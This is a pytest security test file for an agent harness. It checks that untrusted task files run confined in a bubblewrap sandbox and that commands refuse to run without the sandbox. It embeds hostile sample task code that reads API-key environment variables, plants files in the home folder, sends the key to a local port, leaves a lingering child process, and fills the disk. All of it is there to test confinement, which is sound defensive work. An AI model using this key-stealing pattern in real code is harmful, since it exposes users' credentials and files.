"""Task files and single-file solutions run only in the sandbox, and a missing sandbox never passes
silently.

A hostile task file (it reads the API key, writes into $HOME and the harness's state, connects to a
local port, leaves a child behind, sleeps forever or fills the disk) is inspected by `agent tasks`'s
own code path: nothing outside the sandbox changes, the key shows up nowhere, the port sees no
connection, and each misbehaving file is one clear error. A single-file solution builds from a
harness-made copy, so its own folder never changes. Without bubblewrap the commands that run
untrusted code refuse with one line, and run (saying so) only with --unsandboxed.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

import agent.tasks as tasks_module
from agent.build.compile import compile_solution
from agent.tasks import load_folder
from agent.workspace import SingleFileSolution, open_solution
from sandbox.base import open_sandbox
from sandbox.paths import default_cache_dir, harness_state_dir
from sandbox.unsandboxed import UNSANDBOXED_ENV
from tests.harness_security.conftest import connections

REPO = Path(__file__).resolve().parents[2]
RELU_TASK = REPO / "benchmarks" / "tasks" / "level1" / "19_ReLU.py"
CANARY = "sk-ant-canary-41d0c3e9b7a2"
REFUSAL = (
    "error: bubblewrap (bwrap) is not installed, so untrusted code would run unconfined; install it "
    "(apt-get install bubblewrap) or pass --unsandboxed to accept the risk"
)
needs_bwrap = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap is not installed (.ci/setup-docker.sh installs it)"
)

MODEL = """
import torch
import torch.nn as nn


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
"""

HOSTILE_TASK = (
    """
import os, socket, sys, time
from pathlib import Path

found = os.environ.get("ANTHROPIC_API_KEY", "") + os.environ.get("OPENAI_API_KEY", "")
print("key:", found)
print("key:", found, file=sys.stderr)
for victim in {victims!r} + [os.path.expanduser("~/planted.txt")]:
    try:
        Path(victim).parent.mkdir(parents=True, exist_ok=True)
        Path(victim).write_text("planted " + found)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(found.encode() or b"x")
except OSError:
    pass
if os.fork() == 0:  # a child meant to outlive the inspection: it writes once the test says go
    for _ in range(600):
        if os.path.exists({go!r}):
            for late in {late!r}:
                try:
                    Path(late).parent.mkdir(parents=True, exist_ok=True)
                    Path(late).write_text("still alive " + found)
                except OSError:
                    pass
            break
        time.sleep(0.2)
    os._exit(0)
"""
    + MODEL
)

SLEEPING_TASK = "import time\ntime.sleep(10**6)\n" + MODEL

DISK_FILLING_TASK = (
    """
with open("/tmp/fill.bin", "wb") as sink:
    while True:
        sink.write(b"x" * (1 << 20))
"""
    + MODEL
)

SINGLE_FILE_SOLUTION = """
from pathlib import Path

import torch
import torch.nn as nn

Path(__file__).with_name("planted_by_import.txt").write_text("planted")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
"""


def tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def user_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake $HOME holding a file, the harness's cache root beside it, and the canary key set."""
    home = tmp_path / "home"
    (home / ".config").mkdir(parents=True)
    (home / ".config" / "settings").write_text("the user's own file")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("KERNEL_AGENT_CACHE", str(tmp_path / "kernel-agent-cache"))
    monkeypatch.setenv("ANTHROPIC_API_KEY", CANARY)
    monkeypatch.setenv("OPENAI_API_KEY", CANARY)
    monkeypatch.delenv(UNSANDBOXED_ENV, raising=False)
    harness_state_dir().mkdir(parents=True)
    (harness_state_dir() / "baselines.json").write_text("{}")
    return home


@pytest.mark.slow
@needs_bwrap
def test_hostile_task_files_are_inspected_in_the_sandbox(
    tmp_path: Path,
    user_home: Path,
    listener: socket.socket,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(tasks_module, "INSPECT_FILE_SIZE_LIMIT", 4 << 20)
    victims = [str(user_home / "planted.txt"), str(harness_state_dir() / "planted.txt")]
    late = [str(default_cache_dir() / "late.txt"), str(user_home / "late.txt")]
    folder = tmp_path / "tasks"
    folder.mkdir()
    port = listener.getsockname()[1]
    go = default_cache_dir() / "go"  # in the build cache: a folder the sandbox sees and may write
    hostile = HOSTILE_TASK.format(victims=victims, port=port, late=late, go=str(go))
    (folder / "1_hostile.py").write_text(hostile)
    (folder / "2_sleeps.py").write_text(SLEEPING_TASK)
    (folder / "3_fills_disk.py").write_text(DISK_FILLING_TASK)
    before = tree_digest(user_home), tree_digest(folder), tree_digest(harness_state_dir())

    started = time.monotonic()
    found, errors = load_folder(folder, timeout=5)
    took = time.monotonic() - started

    assert [t.name for t in found] == ["1_hostile"]  # confinement breaks nothing a task needs
    assert found[0].spec is not None and found[0].spec.describe() == "float32[16, 32]"
    problems = {e.path.name: e.problem for e in errors}
    assert problems["2_sleeps.py"] == "running it: took longer than 5s"
    assert "file-size limit" in problems["3_fills_disk.py"], problems
    assert took < 60, f"the inspection took {took:.0f}s"
    go.parent.mkdir(parents=True, exist_ok=True)
    go.touch()
    time.sleep(2)  # the hostile task's child would write now, were it still alive
    assert not [v for v in victims + late if Path(v).exists()]
    assert (tree_digest(user_home), tree_digest(folder), tree_digest(harness_state_dir())) == before
    assert connections(listener) == 0
    shown = capfd.readouterr()
    seen = [shown.out, shown.err, *(t.model_dump_json() for t in found), *map(str, errors)]
    assert not [text for text in seen if CANARY in text]


@needs_bwrap
def test_a_single_file_solution_never_writes_beside_itself(user_home: Path) -> None:
    generations = user_home / "generations"
    generations.mkdir()
    source = generations / "gen.py"
    source.write_text(SINGLE_FILE_SOLUTION)
    before = tree_digest(user_home)

    solution = open_solution(source)
    assert isinstance(solution, SingleFileSolution)
    assert solution.source == source.resolve() and solution.root != generations
    assert solution.root.is_relative_to(harness_state_dir())
    with open_sandbox("local", workspace=solution.root, gpus=None) as box:
        compile_solution(solution, box, arch="sm_90", timeout=300)
    assert (solution.root / "planted_by_import.txt").is_file()  # it ran, in the staged copy
    assert tree_digest(user_home) == before
    assert sorted(p.name for p in generations.iterdir()) == ["gen.py"]

    solution.path.write_text("class ModelNew: pass  # changed by what ran in the sandbox\n")
    again = open_solution(source)
    assert again.root == solution.root  # same file, same content: the same folder and build
    assert again.path.read_text() == SINGLE_FILE_SOLUTION  # but the copy is the user's file again


# -- without bubblewrap ------------------------------------------------------------------------


@pytest.fixture
def path_without_bwrap(tmp_path: Path) -> str:
    """A PATH with every program of the current one except bwrap."""
    fake = tmp_path / "bin-without-bwrap"
    fake.mkdir()
    for folder in [Path(sys.executable).parent, *map(Path, os.environ["PATH"].split(os.pathsep))]:
        if not folder.is_dir():
            continue
        for program in folder.iterdir():
            target = fake / program.name
            if program.name != "bwrap" and not target.exists() and os.access(program, os.X_OK):
                target.symlink_to(program)
    return str(fake)


def _agent(args: list[str], cwd: Path, path: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": path,
        "HOME": str(home),
        "KERNEL_AGENT_CACHE": str(home.parent / "kernel-agent-cache"),
        "CUDA_VISIBLE_DEVICES": "",
        "COLUMNS": "200",
        "LANG": os.environ.get("LANG", "C.UTF-8"),
    }
    return subprocess.run(
        [sys.executable, "-m", "agent.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        stdin=subprocess.DEVNULL,
    )


@pytest.fixture
def user_files(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    (work / "tasks").mkdir(parents=True)
    shutil.copy(RELU_TASK, work / "tasks" / RELU_TASK.name)
    (work / "gen.py").write_text(SINGLE_FILE_SOLUTION)
    return work


@pytest.mark.parametrize(
    "args",
    [["compile", "gen.py"], ["eval", "tasks/19_ReLU.py", "gen.py"], ["tasks", "tasks"]],
    ids=["compile", "eval", "tasks"],
)
def test_without_bwrap_commands_refuse_with_one_line(
    args: list[str], user_files: Path, path_without_bwrap: str, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    before = tree_digest(user_files)
    proc = _agent(args, user_files, path_without_bwrap, home)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert [line for line in proc.stderr.splitlines() if line.strip()] == [REFUSAL]
    assert tree_digest(user_files) == before
    assert not any(home.iterdir()), "the refused command wrote into the home folder"
    assert not (tmp_path / "kernel-agent-cache").exists(), "the refused command wrote harness state"


@pytest.mark.slow
def test_unsandboxed_runs_without_bwrap_and_says_so(
    user_files: Path, path_without_bwrap: str, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    listed = _agent(["tasks", "tasks", "--unsandboxed"], user_files, path_without_bwrap, home)
    assert listed.returncode == 0, listed.stdout + listed.stderr
    assert "19_ReLU" in listed.stdout
    assert "--unsandboxed: untrusted code runs with no sandbox isolation" in listed.stderr
    compiled = _agent(["compile", "gen.py", "--unsandboxed"], user_files, path_without_bwrap, home)
    assert "--unsandboxed: untrusted code runs with no sandbox isolation" in compiled.stderr
    assert REFUSAL not in compiled.stderr
